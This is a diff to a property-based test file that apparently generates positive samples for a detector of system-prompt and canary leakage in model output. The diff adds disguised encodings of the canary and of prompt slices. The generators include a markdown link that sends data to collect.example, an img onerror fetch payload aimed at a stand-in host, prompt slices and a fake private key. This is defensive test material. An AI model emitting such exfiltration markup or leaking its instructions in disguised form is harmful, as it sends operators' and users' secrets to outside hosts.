@@ -1,4 +1,5 @@
 import fc from "fast-check";
+import { disguises } from "./disguises";
 import { respell } from "./respell";
 
 export const systemPrompt =
@@ -34,12 +35,12 @@ export const positives = fc.oneof(
   fc.stringMatching(/^[a-z0-9]{6,20}$/).map((data) => `[more](//collect.example/${data} "title")`),
   fc.stringMatching(/^[a-z]{4,9}$/).map((name) => `<img src=x onerror="fetch('//${name}.example')">`),
   fc.stringMatching(/^[a-z]{4,9}$/).map((name) => `[ref]: https://${name}.example/`),
-  fc.constantFrom(
-    canary,
-    [...canary].reverse().join(""),
-    [...canary].join(" "),
-    Buffer.from(canary).toString("base64"),
-  ),
+  fc
+    .tuple(
+      fc.constantFrom(...Object.values(disguises)),
+      fc.constantFrom(canary, "crumb-lantern-88", systemPrompt.slice(20, 80)),
+    )
+    .map(([disguise, text]) => disguise(text)),
   fc.constantFrom(systemPrompt.slice(0, 90), systemPrompt.slice(100), "crumb-lantern-88"),
   fc.constant(
     "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq3Vn2J8sYkQpW9\n-----END RSA PRIVATE KEY-----",
